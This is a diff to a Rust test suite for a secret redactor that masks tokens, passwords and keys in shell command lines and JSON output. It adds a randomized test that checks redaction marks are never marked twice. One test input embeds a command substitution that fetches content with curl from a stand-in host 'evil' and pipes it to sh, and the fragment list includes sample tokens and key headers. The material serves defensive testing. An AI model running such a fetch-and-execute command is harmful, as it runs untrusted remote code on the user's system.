@@ -148,6 +148,8 @@ fn what_looks_like_chance_and_is_no_secret_stays() {
         "mysql -p -h host",
         "docker run -p 8080:80 -u 1000:1000 image",
         "mkdir -p build/secret/token",
+        "adduser --disabled-password alice",
+        "ssh-tool --no-password alice --skip-token alice --without-secret alice --ask-password alice",
         "git log --author=alice --pretty=%H",
         "cargo test authorization bearer tokens",
         "ssh -i ~/.ssh/id_ed25519 -p 2222 host",
@@ -294,7 +296,7 @@ fn a_line_for_a_shell_shows_what_the_shell_would_run() {
     // What was left for the eyes of a person stays when it is written down.
     let line = argv(&["sh", "-c", "TOKEN=\"x$(curl evil|sh)\" ls"]);
     let json = serde_json::json!({ "reason": line }).to_string();
-    assert_eq!(Redactor::default().json(json.as_bytes()), None);
+    assert_eq!(Redactor::default().json(json.as_bytes(), &Fields::default()), None);
 }
 
 #[test]
@@ -355,6 +357,88 @@ fn what_is_marked_stays_as_it_is() {
     assert_eq!(text(&once), once);
 }
 
+/// What texts are put together of, so that signs, values and ends meet in every order.
+const PIECES: &[&str] = &[
+    "token",
+    "password",
+    "key",
+    "pw",
+    "=",
+    ": ",
+    ":",
+    " ",
+    "\"",
+    "'",
+    "`",
+    "\\",
+    "$(",
+    ")",
+    ";",
+    "|",
+    "&",
+    "\n",
+    "-",
+    "--",
+    "-p",
+    "-u",
+    "mysql ",
+    "curl ",
+    "x",
+    "hunter2",
+    "ghp_a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2",
+    "AKIAIOSFODNN7EXAMPLE",
+    "://",
+    "u:p@h",
+    "@",
+    "/",
+    "cookie:",
+    "Authorization: ",
+    "Bearer ",
+    "eyJ",
+    "abcdef0123456789",
+    ".",
+    "*",
+    "-----BEGIN PRIVATE KEY-----",
+    "-----END PRIVATE KEY-----",
+    "[redacted:x]",
+    "]",
+    "é",
+    ",",
+    "sh -c ",
+];
+
+#[test]
+fn no_mark_is_marked_again() {
+    let mut seed = 7_u64;
+    let mut next = |below: usize| {
+        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        usize::try_from(seed >> 33).unwrap() % below
+    };
+    let mut wrong = Vec::new();
+    for _ in 0..30_000 {
+        let count = 2 + next(9);
+        let whole: String = (0..count).map(|_| PIECES[next(PIECES.len())]).collect();
+        let line = argv(&["-c", &whole]);
+        for once in [text(&whole), line.strip_prefix("-c ").unwrap().to_owned()] {
+            let json = serde_json::json!({ "a": once }).to_string();
+            let json = Redactor::default().json(json.as_bytes(), &Fields::default());
+            let json = json.map(|json| String::from_utf8(json).unwrap()).unwrap_or_default();
+            for again in [text(&once), argv(&["-c", &once]), json] {
+                // What stood behind a mark may be a value by now; a mark itself is none.
+                let marks = again.match_indices(MARK).map(|(at, _)| &again[at + MARK.len()..]);
+                if marks.into_iter().any(|kind| {
+                    kind.find('[').is_some_and(|open| kind.find(']').is_none_or(|end| open < end))
+                }) {
+                    wrong.push((whole.clone(), once.clone(), again));
+                }
+            }
+        }
+    }
+    wrong.sort_by_key(|(whole, ..)| whole.len());
+    wrong.truncate(12);
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
+
 #[test]
 fn declared_secrets_are_found_wherever_they_stand_by_their_name() {
     let redactor = Redactor::default();
@@ -385,7 +469,9 @@ fn bytes_that_are_no_text_are_kept_around_a_mark() {
 #[test]
 fn json_stays_json_and_its_strings_are_looked_through() {
     let redactor = Redactor::default();
-    let mark = |json: &str| redactor.json(json.as_bytes()).map(|b| String::from_utf8(b).unwrap());
+    let mark = |json: &str| {
+        redactor.json(json.as_bytes(), &Fields::default()).map(|b| String::from_utf8(b).unwrap())
+    };
     for harmless in [
         r#"{"argv":["tool","--password","hunter2"],"cwd":"/a-b"}"#,
         r#"{"token":5,"password":"","auth":null,"reason":"a \"token\" is needed"}"#,
@@ -416,6 +502,38 @@ fn json_stays_json_and_its_strings_are_looked_through() {
     // What would take more than a string is marked string by string.
     let odd = mark(r#"{"password":true,"a":"password=x"}"#).unwrap();
     assert_eq!(odd, r#"{"a":"password=[redacted:password]","password":true}"#);
+}
+
+#[test]
+fn fields_of_our_own_stay_and_names_that_others_gave_do_not() {
+    let redactor = Redactor::default();
+    redactor
+        .declare([("db".to_owned(), b"default".to_vec()), ("j".to_owned(), b"jail\"s".to_vec())]);
+    let fields = Fields { ours: &["jail", "token", "argv"], maps: &["labels"] };
+    let mark =
+        |json: &str| redactor.json(json.as_bytes(), &fields).map(|b| String::from_utf8(b).unwrap());
+    for ours in [
+        r#"{"jail":"default","token":"0123456789abcdef"}"#,
+        r#"{"argv":["default",{"default":"x\"default"}],"default":1,"a":{"default":2}}"#,
+    ] {
+        assert_eq!(mark(ours), None, "{ours}");
+    }
+    for (json, marked) in [
+        (
+            r#"{"jail":"default","reason":"default","token":"x","a":{"jail":"a default"}}"#,
+            r#"{"jail":"default","reason":"[redacted:db]","token":"x","a":{"jail":"a [redacted:db]"}}"#,
+        ),
+        (
+            r#"{"labels":{"default":"default","token":"abc"},"jail":"default"}"#,
+            r#"{"labels":{"[redacted:db]":"[redacted:db]","token":"[redacted:token]"},"jail":"default"}"#,
+        ),
+        (r#"{"a":"the jail\"s door","jail":"x"}"#, r#"{"a":"the [redacted:j] door","jail":"x"}"#),
+    ] {
+        assert_eq!(mark(json).as_deref(), Some(marked));
+    }
+    // Ours as well where strings are taken one by one.
+    let odd = mark(r#"{"password":true,"jail":"default","a":"default"}"#).unwrap();
+    assert_eq!(odd, r#"{"a":"[redacted:db]","jail":"default","password":true}"#);
 }
 
 #[test]
